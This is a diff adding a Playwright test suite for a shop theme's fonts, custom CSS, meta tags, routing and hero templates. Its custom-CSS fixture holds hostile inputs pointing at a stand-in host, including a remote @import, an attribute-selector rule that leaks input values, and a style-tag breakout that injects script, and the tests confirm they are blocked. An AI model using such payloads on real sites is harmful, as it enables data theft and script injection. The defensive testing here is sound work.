@@ -1,0 +1,147 @@
+import { expect, type Page } from 'playwright/test'
+import en from '../messages/en.json' with { type: 'json' }
+import { expectAccessible } from './fixtures/accessibility'
+import { aListing, cornerStore } from './fixtures/corner-store'
+import { test } from './fixtures/test'
+
+const customCSS = `
+  @import "https://evil.example/a.css";
+  @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
+  h2 { letter-spacing: 0.125em; background: url(https://evil.example/x.png); position: fixed }
+  body { background: #fff6e0 }
+  header { background: #ff0000 }
+  input[value^=a] { background: url(https://evil.example/a) }
+  </style><script>document.title = 'taken'</script>`
+
+test.use({
+  storeFile: cornerStore({
+    theme: {
+      meta: { seoTitle: { keywords: 'tees, lighthouse' } },
+      styles: {
+        primaryColor: '#0b3d91',
+        fonts: ['Oswald', 'Lora'],
+        customCSS,
+        heroBanner: { template: 5 },
+        button: { primary: { backgroundColor: '#ffe600', color: '#ffee33' } },
+      },
+      content: {
+        heroBanner: { title: 'By the sea', showSearch: true, searchPlaceholder: 'Look for a tee' },
+        pages: [
+          { slug: 'faq', title: 'Questions', text: 'Do you ship?\n\nYes.' },
+          { slug: 'goods', title: 'Never seen', text: 'The collection comes first.' },
+        ],
+      },
+    },
+  }),
+})
+
+/** Every address that a page asks for. */
+function asked(page: Page): URL[] {
+  const urls: URL[] = []
+  page.on('request', (request) => urls.push(new URL(request.url())))
+  return urls
+}
+
+test('a shop is set in the two families of its theme, and fetches no other file of a font', async ({ page, shop }) => {
+  const urls = asked(page)
+  await page.goto(shop.url)
+  await page.evaluate(() => document.fonts.ready.then(() => undefined))
+  const fonts = urls.map(({ pathname }) => pathname).filter((path) => path.endsWith('.woff2'))
+  expect(new Set(fonts.map((path) => /media\/([a-z]+-latin)/.exec(path)?.[1]))).toEqual(
+    new Set(['lora-latin', 'oswald-latin']),
+  )
+  await expect(page.locator('link[rel=preload][as=font]')).toHaveAttribute('href', /lora-latin/)
+  const family = (role: Parameters<Page['getByRole']>[0]) =>
+    page
+      .getByRole(role)
+      .first()
+      .evaluate((element) => getComputedStyle(element).fontFamily)
+  expect(await family('heading')).toContain('Oswald')
+  expect(await family('paragraph')).toContain('Lora')
+})
+
+test('a creator’s own style changes the content of the shop alone, and fetches nothing from elsewhere', async ({
+  page,
+  shop,
+}) => {
+  const urls = asked(page)
+  await page.goto(shop.url)
+  const title = page.getByRole('heading', { level: 2, name: 'Goods' }).first()
+  await expect(title).toHaveCSS('position', 'static')
+  expect(await title.evaluate((element) => Number.parseFloat(getComputedStyle(element).letterSpacing))).toBeGreaterThan(
+    2,
+  )
+  await expect(page.locator('.shop-content')).toHaveCSS('background-color', 'rgb(255, 246, 224)')
+  await expect(page.getByRole('banner')).not.toHaveCSS('background-color', 'rgb(255, 0, 0)')
+  await expect(page).not.toHaveTitle('taken')
+  expect(urls.filter(({ host }) => host !== new URL(shop.url).host)).toEqual([])
+  const thankyou = await page.request.get(`${shop.url}/thankyou`)
+  expect(await thankyou.text()).not.toContain('0.125em')
+})
+
+test('the head of the home page says what the theme says of it', async ({ page, shop }) => {
+  await page.goto(shop.url)
+  await expect(page.locator('meta[name=keywords]')).toHaveAttribute('content', 'tees, lighthouse')
+  await expect(page.locator('meta[property="og:site_name"]')).toHaveAttribute('content', 'Corner Shop')
+  await expect(page.locator('link[rel=icon]').first()).toHaveAttribute('href', /^data:image\/svg\+xml/)
+})
+
+test('a page of the creator’s own has its address; a collection of the same name comes first', async ({
+  page,
+  shop,
+}) => {
+  const own = await page.goto(`${shop.url}/faq`)
+  expect(own?.status()).toBe(200)
+  await expect(page.getByRole('heading', { level: 1, name: 'Questions' })).toBeVisible()
+  await expect(page).toHaveTitle('Questions | Corner Shop')
+  await page.goto(`${shop.url}/goods`)
+  await expect(page.getByRole('heading', { level: 1, name: 'Goods collection' })).toBeVisible()
+})
+
+test.describe('without JavaScript', () => {
+  test.use({ javaScriptEnabled: false })
+
+  test('the hero’s search leads to the search page with its term', async ({ page, shop }) => {
+    await page.goto(shop.url)
+    await page.getByRole('searchbox', { name: en.home.search }).fill('corner tee')
+    await page.keyboard.press('Enter')
+    await expect(page).toHaveURL(`${shop.url}/search?searchterm=corner+tee`)
+  })
+})
+
+for (const [template, primaryColor] of [
+  [1, '#ffe600'],
+  [2, '#b00020'],
+  [3, '#00c2ff'],
+  [4, '#7f7f7f'],
+  [5, '#ff2d95'],
+] as const)
+  test(`hero template ${template} is open to everybody, at any width`, async ({ page, anotherShop }) => {
+    const { url } = await anotherShop(
+      cornerStore({
+        listings: ['one', 'two', 'three', 'four'].map((slug) => aListing({ slug, title: `Tee ${slug}` })),
+        theme: {
+          styles: { primaryColor, heroBanner: { template } },
+          content: {
+            heroBanner: {
+              title: 'Extraordinarilylongwindedcommemorativeanniversarygarments of the northern lighthouse by the sea',
+              subtitle: 'Goods from the lighthouse',
+              body: 'Printed to order.',
+              titleBadge: 'Drop 07',
+              ctaText: 'Shop the drop',
+              ctaLink: '/goods',
+              showSearch: true,
+            },
+            categories: [{ slug: 'goods', displayName: 'Goods' }],
+          },
+        },
+      }),
+    )
+    for (const width of [320, 768, 1440]) {
+      await page.setViewportSize({ width, height: 800 })
+      await page.goto(url)
+      await expect(page.getByRole('heading', { level: 1 })).toHaveAccessibleName(/^Extraordinarily/)
+      expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0)
+    }
+    await expectAccessible(page)
+  })
